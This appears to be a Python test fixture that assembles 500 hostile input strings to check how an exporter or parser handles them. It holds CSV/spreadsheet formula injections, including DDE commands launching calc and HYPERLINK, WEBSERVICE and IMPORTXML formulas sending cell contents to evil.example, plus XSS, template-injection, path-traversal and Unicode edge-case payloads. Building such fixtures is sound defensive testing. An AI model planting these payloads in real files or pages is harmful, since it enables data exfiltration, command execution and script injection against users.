"""Five hundred texts that do harm where a writer is careless: formulas, markup, quoting, control."""

from __future__ import annotations

from itertools import product

_FORMULAS = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?x="&A1,"click")',
    "DDE(\"cmd\";\"/C calc\";\"x\")", 'WEBSERVICE("http://evil.example/"&B2)', "SUM(A1:A9)*1e308", "1/0",
    'IMPORTXML("http://evil.example","//a")', "@SUM(1,1)", "2+5+cmd|' /C notepad'!A0",
    "msexcel|'..\\..\\calc.exe'!A1", "NOW()",
)  # fmt: skip
_STARTS = (
    "=", "+", "-", "@", "\t=", "\r=", " =", "'=", "''=", "\n=", "\u200b=", "\uff1d", "=\t", '"=', ";=",
    ",=",
)  # fmt: skip
_MARKUP = (
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>", "<svg><script xlink:href=data:,alert(1)></svg>",
    "<iframe src=javascript:alert(1)>", "<a href='javascript:alert(1)'>x</a>",
    "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>",
    "<style>@import 'http://evil.example/x.css'</style>", "<base href=http://evil.example/>", "<!--", "-->",
    "<![CDATA[x]]>", "]]>", "<?xml version='1.0'?>", "<!DOCTYPE x [<!ENTITY e 'boom'>]>", "&e;",
    "&lt;b&gt;", "&#60;", "<meta http-equiv=refresh content=0;url=http://evil.example>", "<object data=x>",
    "<math><mi//xlink:href=x>", "{{ 7*7 }}", "{% include '/etc/passwd' %}", "${7*7}", "<%= 7*7 %>",
    "#{7*7}", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
)  # fmt: skip
_AROUND = (
    ("", ""), ("depot ", ""), ("", " north"), ("'", "'"), ('"', '"'), ("\\", "\\"), ("x\n", ""),
    ("\u202e", "\u202c"),
)  # fmt: skip
_QUOTING = (
    '"', '""', '"""', "'", "\\", "\\\\", '\\"', "a,b", "a;b", "a\tb", "a\nb", "a\r\nb", "a\rb", '"a\nb"',
    '","', '";"', "\\n", "\\u0000", "\\x00", "%00", "\u2028", "\u2029", "\x85", "\xa0", "\ufeff", "\ufffe",
    "\u202eabc", "\u2066x\u2069", "\U0001f4a3", "e\u0301", "\u212b", "\u0130", "\u00df", "\ud7ff",
    "\U0010ffff", "nul", "CON", "AUX.csv", "..", "../../x", "/etc/passwd", "C:\\x", "\\\\host\\share",
    "a" * 1000, "=" * 300, "<" * 300, "'" * 50, "{" * 100, "[" * 100, "null", "NaN", "Infinity",
    "-Infinity", "true", "0x41", "1e999", "1_000", "1,234", "0123", "2026-13-45", "4-10", "_x0041_",
    "_x000D_", "_x005F_x0041_", "&amp;amp;", "---", "...", "- a", "? a", ": a", "# a", "*a", "&a b",
    "!!python/x", "%TAG", "> a", "| a", "@a", "`a", "\x01", "\x08", "\x1b[31mred\x1b[0m", "\x7f",
)  # fmt: skip
_PLAIN_TEXTS = tuple(f"{start}{formula}" for start, formula in product(_STARTS, _FORMULAS))
_MARKED = tuple(f"{before}{text}{after}" for (before, after), text in product(_AROUND, _MARKUP))

HOSTILE = tuple(dict.fromkeys((*_QUOTING, *_PLAIN_TEXTS, *_MARKED)))[:500]
"""Every one is different. Some hold characters that no scenario can: these must be refused, not mended."""

assert len(HOSTILE) == 500, "as many as the tests speak of"
